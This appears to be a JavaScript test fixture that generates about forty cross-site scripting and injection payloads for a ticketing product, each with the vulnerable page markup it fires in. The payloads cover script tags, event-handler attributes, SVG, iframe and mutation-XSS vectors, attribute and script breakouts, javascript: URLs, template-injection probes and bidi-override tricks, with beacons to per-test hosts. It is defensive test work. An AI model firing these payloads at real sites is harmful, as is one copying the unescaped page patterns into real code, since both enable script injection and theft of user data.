/**
 * Texts that somebody might send as a ticket to run a script, redirect the page or make a request in
 * the browser of its reader.
 *
 * `RUN` stands for a script that tells of itself, `LEAK` for an address of the payload's own and
 * `HOST` for that address's host. The second text of each is the careless page in which it is
 * live, with `%` in the payload's place; null where that takes a template engine, a second reading
 * of the same text, or a browser of another time.
 */
const ANYWHERE = '%';

/** @type {[text: string, page: string | null][]} */
const PATTERNS = [
  ['<script>RUN</script><script src=LEAK></script>', ANYWHERE],
  ['<ImG\tsRc=LEAK\noNeRrOr=RUN\t>', ANYWHERE],
  ['<svg/onload=RUN><image href="LEAK"/></svg>', ANYWHERE],
  ['<svg><animate attributeName=x dur=1s onbegin=RUN /><image href=LEAK />', ANYWHERE],
  ['<math><mtext><a href=javascript:RUN ping=LEAK>x', ANYWHERE],
  ['<iframe src=LEAK onload=RUN></iframe>', ANYWHERE],
  [`<iframe srcdoc="<script>RUN</script><img src='LEAK'>"></iframe>`, ANYWHERE],
  ['<object data=LEAK onerror=RUN></object>', ANYWHERE],
  ['<embed src=LEAK onload=RUN>', ANYWHERE],
  ['<base href=LEAK><script src=/x.js></script>', ANYWHERE],
  ['<meta http-equiv=refresh content="0;url=LEAK">', ANYWHERE],
  ['<form action=LEAK><button onclick=RUN>Next page</button>', ANYWHERE],
  ['<form id=root name=body><input name=attributes><img name=cookie src=LEAK>', ANYWHERE],
  ['<details open ontoggle=RUN style="background:url(LEAK);x:expression(RUN)">', ANYWHERE],
  ['<img srcset="LEAK 1x" onerror=RUN>', ANYWHERE],
  ['<link rel=stylesheet href=LEAK onerror=RUN>', ANYWHERE],
  ['<style>@import "LEAK";</style>', ANYWHERE],
  ['<div><template shadowrootmode=open><img src=LEAK onerror=RUN></template></div>', ANYWHERE],
  ['\u202e<img src=LEAK onerror=RUN>\u202c gnp.exe', ANYWHERE],
  [
    '{"$$typeof":"react.element","props":{"dangerouslySetInnerHTML":{"__html":"<img src=LEAK>"}}}',
    ANYWHERE,
  ],
  [
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='RUN;fetch("LEAK")'>`,
    ANYWHERE,
  ],
  ['<noscript><p title="</noscript><img src=LEAK onerror=RUN>">', ANYWHERE],
  [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=LEAK onerror=RUN&gt;">',
    null,
  ],
  [`<img src='LEAK?`, `%<p title='x'>The next ticket</p>`],
  ['" autofocus onfocus="RUN" style="background:url(LEAK)" x="', '<button title="%">x</button>'],
  [`'><img src=LEAK onerror='RUN`, `<b title='%'></b>`],
  ['x src=LEAK onerror=RUN', '<img alt=%>'],
  ['--!><img src=LEAK onerror=RUN>', '<!-- % -->'],
  [']]><svg onload=RUN><image href=LEAK />', '<svg><desc><![CDATA[%]]></desc></svg>'],
  ['</textarea></title></style><img src=LEAK onerror=RUN>', '<textarea>%</textarea>'],
  ['</script><img src=LEAK onerror=RUN><!--', '<script>const ticket = {"title": "%"}</script>'],
  ['";RUN;new Image().src="LEAK', '<script>const title = "%"</script>'],
  ['x\u2028RUN;new Image().src="LEAK"\u2029//', '<script>// %</script>'],
  ['"><svg/onload=RUN><image/href=LEAK>@mail.HOST', '<a href="mailto:%">x</a>'],
  ['jaVa&#9;sCript:RUN;fetch("LEAK")//', `<a href='%'>x</a>`],
  ['data:text/html,<script>RUN</script><img src=LEAK>', `<iframe src='%'></iframe>`],
  ['[x](javascript:RUN) ![](LEAK) [y](data:text/html,x) file://x@HOST/y', null],
  [`{{constructor.constructor('RUN;fetch("LEAK")')()}} {{7*7}} \${7*7} {% include "LEAK" %}`, null],
  ['+ADw-script+AD4-RUN+ADw-/script+AD4- \uff1cimg src=LEAK\uff1e __proto__ constructor', null],
  ['&lt;script&gt;RUN&lt;/script&gt;&#0000060img src=LEAK onerror=RUN&#x000003e;', null],
];
const NAME_MAX = 100;

/**
 * @typedef {object} Payload
 * @property {number} number
 * @property {string} title as it is sent; its description is the same
 * @property {string} name its beginning, as far as a name may be long
 * @property {string} email what an address may have of such things
 * @property {string | null} page a careless page with it
 */

/**
 * @param {string} word that is in each of them, to be found by
 * @returns {Payload[]}
 */
export function payloads(word) {
  return PATTERNS.map(([pattern, page], index) => {
    const number = index + 1;
    const host = `${number}.${word}.test`;
    const title = pattern
      .replaceAll('RUN', `ran(${number})`)
      .replaceAll('LEAK', `http://${host}`)
      .replaceAll('HOST', host);
    return {
      number,
      title,
      name: title.slice(0, NAME_MAX).trim(),
      email: `{{7*7}}'onfocus='ran\`${number}\`'autofocus='@${host}`,
      page: page && page.replace('%', () => title),
    };
  });
}

// Marks that let a line show something else than it says; the product takes them out of lines.
const DIRECTIONS = /[\u202a-\u202e\u2066-\u2069]/g;

/**
 * Return a single-line text as the product returns it.
 * @param {string} text
 */
export const onOneLine = (text) =>
  text
    .replace(/[\t\r\n\u2028\u2029]+/g, ' ')
    .replace(DIRECTIONS, '')
    .trim();

/**
 * Return a text of several lines as the product returns it.
 * @param {string} text
 */
export const onLines = (text) => text.replace(/[\u2028\u2029]/g, '\n');

/**
 * Return a person's name as the product returns it.
 * @param {string} text
 */
export const asName = (text) => onOneLine(text).replace(/\s+/g, ' ');
